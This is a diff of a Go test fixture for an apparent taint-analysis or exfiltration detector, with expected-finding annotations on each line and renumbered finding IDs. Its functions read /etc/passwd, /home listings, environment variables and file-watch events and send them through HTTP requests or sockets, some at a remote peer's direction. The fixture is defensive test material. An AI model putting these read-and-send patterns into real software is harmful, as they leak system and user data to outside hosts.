@@ -4,6 +4,7 @@ package models
 import (
 	"io"
 	"io/fs"
+	"io/ioutil"
 	"net"
 	"net/http"
 	"os"
@@ -150,10 +151,21 @@ func globbedOnly() {
 	filepath.Glob("/home/*") //~ ok
 }
 
-func listed() {
-	entries, _ := os.ReadDir("/home") //~ source(FILE_META) f25, capability(FILES)
+func listedOld() {
+	entries, _ := ioutil.ReadDir("/home") //~ source(FILE_META) f25, capability(FILES)
 	for _, entry := range entries {
-		http.Get(U + entry.Name()) //~ sink(egress.http) f25, finding(traced) f25
+		http.Get(U + entry.ModTime().String()) //~ sink(egress.http) f25, finding(traced) f25
+	}
+}
+
+func listedOldOnly() {
+	ioutil.ReadDir("/home") //~ ok
+}
+
+func listed() {
+	entries, _ := os.ReadDir("/home") //~ source(FILE_META) f27, capability(FILES)
+	for _, entry := range entries {
+		http.Get(U + entry.Name()) //~ sink(egress.http) f27, finding(traced) f27
 	}
 }
 
@@ -163,8 +175,8 @@ func listedOnly() {
 }
 
 func stat() {
-	info, _ := os.Stat("/etc/passwd") //~ source(FILE_META) f27, capability(FILES)
-	http.Get(U + info.Name()) //~ sink(egress.http) f27, finding(traced) f27
+	info, _ := os.Stat("/etc/passwd") //~ source(FILE_META) f29, capability(FILES)
+	http.Get(U + info.Name()) //~ sink(egress.http) f29, finding(traced) f29
 }
 
 func statOnly() {
@@ -173,8 +185,8 @@ func statOnly() {
 }
 
 func described(info os.FileInfo) {
-	info, _ = os.Stat("/etc/passwd") //~ source(FILE_META) f29
-	http.Get(U + info.Name()) //~ sink(egress.http) f29, finding(traced) f29
+	info, _ = os.Stat("/etc/passwd") //~ source(FILE_META) f31
+	http.Get(U + info.Name()) //~ sink(egress.http) f31, finding(traced) f31
 }
 
 func describedConstant(info os.FileInfo) {
@@ -182,8 +194,8 @@ func describedConstant(info os.FileInfo) {
 }
 
 func changed(info os.FileInfo) {
-	info, _ = os.Stat("/etc/passwd") //~ source(FILE_META) f31
-	http.Get(U + info.ModTime().String()) //~ sink(egress.http) f31, finding(traced) f31
+	info, _ = os.Stat("/etc/passwd") //~ source(FILE_META) f33
+	http.Get(U + info.ModTime().String()) //~ sink(egress.http) f33, finding(traced) f33
 }
 
 func changedConstant(info os.FileInfo) {
@@ -191,10 +203,10 @@ func changedConstant(info os.FileInfo) {
 }
 
 func entryInfo(entry os.DirEntry) {
-	entries, _ := os.ReadDir("/home") //~ source(FILE_META) f33
+	entries, _ := os.ReadDir("/home") //~ source(FILE_META) f35
 	entry = entries[0]
 	info, _ := entry.Info()
-	http.Get(U + info.Name()) //~ sink(egress.http) f33, finding(traced) f33
+	http.Get(U + info.Name()) //~ sink(egress.http) f35, finding(traced) f35
 }
 
 func entryInfoConstant(entry os.DirEntry) {
@@ -203,17 +215,17 @@ func entryInfoConstant(entry os.DirEntry) {
 }
 
 func walked() {
-	filepath.WalkDir("/home", func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f35, capability(FILES)
-		http.Get(U + path) //~ sink(egress.http) f35, finding(traced) f35
+	filepath.WalkDir("/home", func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f37, capability(FILES)
+		http.Get(U + path) //~ sink(egress.http) f37, finding(traced) f37
 		return nil
 	})
 }
 
 func walkedRemotely(c net.Conn) {
 	b := make([]byte, 64)
-	c.Read(b) //~ source(NETWORK) f36
-	filepath.WalkDir(string(b), func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f36b
-		c.Write([]byte(path)) //~ sink(egress.socket) f36b, finding(remote-directed-listing, traced) f36b
+	c.Read(b) //~ source(NETWORK) f38
+	filepath.WalkDir(string(b), func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f38b
+		c.Write([]byte(path)) //~ sink(egress.socket) f38b, finding(remote-directed-listing, traced) f38b
 		return nil
 	})
 }
@@ -223,8 +235,8 @@ func walkedOnly() {
 }
 
 func walkedSystem() {
-	fs.WalkDir(os.DirFS("/home"), ".", func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f38, capability(FILES)
-		http.Get(U + path) //~ sink(egress.http) f38, finding(traced) f38
+	fs.WalkDir(os.DirFS("/home"), ".", func(path string, entry fs.DirEntry, err error) error { //~ source(FILE_META) f40, capability(FILES)
+		http.Get(U + path) //~ sink(egress.http) f40, finding(traced) f40
 		return nil
 	})
 }
@@ -235,14 +247,14 @@ func walkedSystemOnly() {
 
 func directory(c net.Conn) {
 	b := make([]byte, 64)
-	c.Read(b) //~ source(NETWORK) f40
-	data, _ := fs.ReadFile(os.DirFS(string(b)), "passwd") //~ source(FILE) f40c
-	c.Write(data) //~ sink(egress.socket) f40c, finding(remote-directed-file-collection, traced) f40c
+	c.Read(b) //~ source(NETWORK) f42
+	data, _ := fs.ReadFile(os.DirFS(string(b)), "passwd") //~ source(FILE) f42c
+	c.Write(data) //~ sink(egress.socket) f42c, finding(remote-directed-file-collection, traced) f42c
 }
 
 func directoryOpened() {
-	f, _ := os.DirFS("/etc").Open("passwd") //~ source(FILE) f41
-	http.Post(U, "", f) //~ sink(egress.http) f41, finding(traced) f41
+	f, _ := os.DirFS("/etc").Open("passwd") //~ source(FILE) f43
+	http.Post(U, "", f) //~ sink(egress.http) f43, finding(traced) f43
 }
 
 func directoryConstant() {
@@ -251,8 +263,8 @@ func directoryConstant() {
 }
 
 func readFileOf(c net.Conn, fsys fs.FS) {
-	b, _ := fs.ReadFile(fsys, "passwd") //~ source(FILE) f43, capability(FILES)
-	c.Write(b) //~ sink(egress.socket) f43, finding(traced) f43
+	b, _ := fs.ReadFile(fsys, "passwd") //~ source(FILE) f45, capability(FILES)
+	c.Write(b) //~ sink(egress.socket) f45, finding(traced) f45
 }
 
 func readFileOfOnly(fsys fs.FS) {
@@ -260,8 +272,8 @@ func readFileOfOnly(fsys fs.FS) {
 }
 
 func statOf(fsys fs.FS) {
-	info, _ := fs.Stat(fsys, "passwd") //~ source(FILE_META) f45, capability(FILES)
-	http.Get(U + info.Name()) //~ sink(egress.http) f45, finding(traced) f45
+	info, _ := fs.Stat(fsys, "passwd") //~ source(FILE_META) f47, capability(FILES)
+	http.Get(U + info.Name()) //~ sink(egress.http) f47, finding(traced) f47
 }
 
 func statOfOnly(fsys fs.FS) {
@@ -269,8 +281,8 @@ func statOfOnly(fsys fs.FS) {
 }
 
 func readDirOf(fsys fs.FS) {
-	entries, _ := fs.ReadDir(fsys, ".") //~ source(FILE_META) f47, capability(FILES)
-	http.Get(U + entries[0].Name()) //~ sink(egress.http) f47, finding(traced) f47
+	entries, _ := fs.ReadDir(fsys, ".") //~ source(FILE_META) f49, capability(FILES)
+	http.Get(U + entries[0].Name()) //~ sink(egress.http) f49, finding(traced) f49
 }
 
 func readDirOfOnly(fsys fs.FS) {
@@ -278,8 +290,8 @@ func readDirOfOnly(fsys fs.FS) {
 }
 
 func openOf(fsys fs.FS) {
-	f, _ := fsys.Open("passwd") //~ source(FILE) f49, capability(FILES)
-	http.Post(U, "", f) //~ sink(egress.http) f49, finding(traced) f49
+	f, _ := fsys.Open("passwd") //~ source(FILE) f51, capability(FILES)
+	http.Post(U, "", f) //~ sink(egress.http) f51, finding(traced) f51
 }
 
 func openOfOnly(fsys fs.FS) {
@@ -287,18 +299,18 @@ func openOfOnly(fsys fs.FS) {
 }
 
 func joined() {
-	http.Get(U + filepath.Join("/", os.Getenv("T"))) //~ source(ENVIRONMENT) f51, sink(egress.http) f51, finding(traced) f51
+	http.Get(U + filepath.Join("/", os.Getenv("T"))) //~ source(ENVIRONMENT) f53, sink(egress.http) f53, finding(traced) f53
 	http.Get(U + filepath.Join("a", "b")) //~ ok
 }
 
 func base() {
-	http.Get(U + filepath.Base(os.Getenv("T"))) //~ source(ENVIRONMENT) f52, sink(egress.http) f52, finding(traced) f52
+	http.Get(U + filepath.Base(os.Getenv("T"))) //~ source(ENVIRONMENT) f54, sink(egress.http) f54, finding(traced) f54
 	http.Get(U + filepath.Base("/a/b")) //~ ok
 }
 
 func absolute() {
-	p, _ := filepath.Abs(os.Getenv("T")) //~ source(ENVIRONMENT) f53
-	http.Get(U + p) //~ sink(egress.http) f53, finding(traced) f53
+	p, _ := filepath.Abs(os.Getenv("T")) //~ source(ENVIRONMENT) f55
+	http.Get(U + p) //~ sink(egress.http) f55, finding(traced) f55
 }
 
 func absoluteConstant() {
@@ -307,8 +319,8 @@ func absoluteConstant() {
 }
 
 func splitPath() {
-	dir, _ := filepath.Split(os.Getenv("T")) //~ source(ENVIRONMENT) f55
-	http.Get(U + dir) //~ sink(egress.http) f55, finding(traced) f55
+	dir, _ := filepath.Split(os.Getenv("T")) //~ source(ENVIRONMENT) f57
+	http.Get(U + dir) //~ sink(egress.http) f57, finding(traced) f57
 }
 
 func splitPathConstant() {
@@ -322,10 +334,10 @@ func matchedPath() {
 }
 
 func renamed() {
-	os.WriteFile("/tmp/a", []byte(os.Getenv("T")), 0o600) //~ source(ENVIRONMENT) f58
+	os.WriteFile("/tmp/a", []byte(os.Getenv("T")), 0o600) //~ source(ENVIRONMENT) f60
 	os.Rename("/tmp/a", "/tmp/b") //~ capability(FILE_WRITE)
-	b, _ := os.ReadFile("/tmp/b") //~ source(FILE) f58b
-	http.Get(U + string(b)) //~ sink(egress.http) f58, finding(traced) f58, sink(egress.http) f58b, finding(traced) f58b
+	b, _ := os.ReadFile("/tmp/b") //~ source(FILE) f60b
+	http.Get(U + string(b)) //~ sink(egress.http) f60, finding(traced) f60, sink(egress.http) f60b, finding(traced) f60b
 }
 
 func renamedConstant() {
@@ -343,8 +355,8 @@ func removedNamed() {
 
 func pipe() {
 	r, w, _ := os.Pipe() //~ capability(IPC)
-	w.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f62
-	http.Post(U, "", r) //~ sink(egress.http) f62, finding(traced) f62
+	w.WriteString(os.Getenv("T")) //~ source(ENVIRONMENT) f64
+	http.Post(U, "", r) //~ sink(egress.http) f64, finding(traced) f64
 }
 
 func pipeConstant() {
@@ -354,10 +366,10 @@ func pipeConstant() {
 }
 
 func mapped(c net.Conn) {
-	r, _ := mmap.Open("/etc/passwd") //~ source(FILE) f64, capability(FILES)
+	r, _ := mmap.Open("/etc/passwd") //~ source(FILE) f66, capability(FILES)
 	b := make([]byte, 64)
 	r.ReadAt(b, 0)
-	c.Write(b) //~ sink(egress.socket) f64, finding(traced) f64
+	c.Write(b) //~ sink(egress.socket) f66, finding(traced) f66
 }
 
 func mappedOnly() {
@@ -366,8 +378,8 @@ func mappedOnly() {
 
 func watched() {
 	w, _ := fsnotify.NewWatcher() //~ capability(FILES)
-	event := <-w.Events //~ source(FILE_META) f66
-	http.Get(U + event.Name) //~ sink(egress.http) f66, finding(traced) f66
+	event := <-w.Events //~ source(FILE_META) f68
+	http.Get(U + event.Name) //~ sink(egress.http) f68, finding(traced) f68
 }
 
 func watchedOnly() {
@@ -376,8 +388,8 @@ func watchedOnly() {
 }
 
 func watchedNames(w *fsnotify.Watcher) {
-	for event := range w.Events { //~ source(FILE_META) f68
-		http.Get(U + event.Name) //~ sink(egress.http) f68, finding(traced) f68
+	for event := range w.Events { //~ source(FILE_META) f70
+		http.Get(U + event.Name) //~ sink(egress.http) f70, finding(traced) f70
 	}
 }
 
